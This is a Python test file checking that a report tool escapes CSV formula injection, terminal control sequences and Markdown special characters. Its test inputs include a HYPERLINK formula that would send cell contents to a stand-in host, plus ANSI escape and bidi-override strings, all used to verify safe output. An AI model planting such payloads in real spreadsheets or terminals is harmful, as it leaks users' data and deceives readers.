"""CSV that no spreadsheet runs and that reads back the same; JSON with stable keys."""

import csv
import io
import json
from datetime import date

import pytest
from hypothesis import given
from hypothesis import strategies as st

from xcli.domain.figure import Growth, Rate
from xcli.report.delimited import csv_lines, json_lines, json_list, prefix, unprefix
from xcli.report.markdown import md_lines
from xcli.report.table import Column, Kind, Table
from xcli.text import Text, same


def one(value: object, kind: Kind = "text") -> Table:
    return Table(same("表"), [Column("value", Text("值", "Value"), kind)], [[value]])


@pytest.mark.parametrize(
    ("text", "written"),
    [
        ('=HYPERLINK("http://e/?"&A1,"点")', '\'=HYPERLINK("http://e/?"&A1,"点")'),
        ("=1+1", "'=1+1"),
        ("+8613800138000", "'+8613800138000"),
        ("-1+1", "'-1+1"),
        ("@SUM(A1)", "'@SUM(A1)"),
        ("\t=1", "'\t=1"),
        ("\r=1", "'\r=1"),
        ("＝1+1", "'＝1+1"),
        ("＋1", "'＋1"),
        ("－1", "'－1"),
        ("＠a", "'＠a"),
        ("'=1", "''=1"),
        ("O'Brien", "O'Brien"),
        ("'90年代", "'90年代"),
        ("张三", "张三"),
        ("2024-03-05", "2024-03-05"),
        ("", ""),
    ],
)
def test_formulas_are_disarmed(text: str, written: str) -> None:
    assert prefix(text) == written
    assert unprefix(written) == text
    rows = list(csv.reader(io.StringIO("".join(csv_lines(one(text))), newline="")))
    assert rows == [["值"], [written]]


@given(st.text())
def test_unprefix_takes_back_exactly_what_prefix_added(text: str) -> None:
    assert unprefix(prefix(text)) == text


@pytest.mark.parametrize(
    ("value", "kind", "written"),
    [
        (-5, "whole", "-5"),
        (-123450, "money", "-1234.50"),
        (12345678900, "wan", "12345.68"),
        (date(2024, 3, 5), "day", "2024-03-05"),
        (Rate(13, 25), "rate", "13/25 = 52.0%"),
        (Rate(13, 25), "share", "52.0%"),
        (Growth.of_counts(15, 20), "figure", "-25.0%"),
        (None, "money", '""'),
    ],
)
def test_numbers_stay_numbers(value: object, kind: Kind, written: str) -> None:
    assert list(csv_lines(one(value, kind)))[1] == written + "\n"


@pytest.mark.parametrize(
    ("value", "kind", "kept"),
    [
        (2**62, "text", str(2**62)),
        (25, "whole", 25),
        (123450, "money", "1234.50"),
        (date(2024, 3, 5), "day", "2024-03-05"),
        (Rate(13, 25), "rate", {"numerator": 13, "denominator": 25, "percent": "52.0"}),
        (Rate(0, 0), "rate", {"numerator": 0, "denominator": 0, "percent": None}),
        (Growth(1, 100, points=True), "figure", {"numerator": 1, "denominator": 100, "points": "1.0"}),
        (None, "text", None),
        ("=1+1", "text", "=1+1"),
        ("张三\n2026-03-01 INFO", "text", "张三\n2026-03-01 INFO"),
        ("\u009b31m\u202e", "text", "\u009b31m\u202e"),
        (Text("邻里", "neighbours"), "text", "邻里"),
    ],
)
def test_json(value: object, kind: Kind, kept: object) -> None:
    line = "".join(json_lines(one(value, kind)))
    assert line.count("\n") == 1
    assert json.loads(line) == {"value": kept}
    assert json.loads("".join(json_list(one(value, kind)))) == [{"value": kept}]


def test_json_hides_what_a_terminal_would_obey() -> None:
    line = "".join(json_lines(one("\x1b[2J\u009b31m\u202e")))
    assert line == '{"value": "\\u001b[2J\\u009b31m\\u202e"}\n'


def test_no_rows() -> None:
    empty = Table(same(""), [Column("a", same("甲"))], [])
    assert "".join(json_list(empty)) == "[]\n"
    assert "".join(json_lines(empty)) == ""
    assert "".join(csv_lines(empty)) == "甲\n"


def test_totals_stand_in_csv_and_not_in_json() -> None:
    table = Table(same(""), [Column("a", same("甲"), "whole")], [[1], [2]], foot=[[3]])
    assert "".join(csv_lines(table)) == "甲\n1\n2\n3\n"
    assert [json.loads(line) for line in json_lines(table)] == [{"a": 1}, {"a": 2}]


def test_tab_separated() -> None:
    table = Table(same(""), [Column("a", same("甲")), Column("b", same("乙"))], [["有\t制表符", 'a"b']])
    assert "".join(csv_lines(table, delimiter="\t")) == '甲\t乙\n"有\t制表符"\t"a""b"\n'


@pytest.mark.parametrize(
    ("text", "written"),
    [
        ("a|b", r"a\|b"),
        ("[red]", r"\[red\]"),
        ("<script>", r"\<script\>"),
        ("*粗*", r"\*粗\*"),
        ("一\n二", r"一\\x0a二"),
        ("\x1b[2J", r"\\x1b\[2J"),
    ],
)
def test_markdown(text: str, written: str) -> None:
    assert list(md_lines(one(text)))[-1] == f"| {written} |\n"
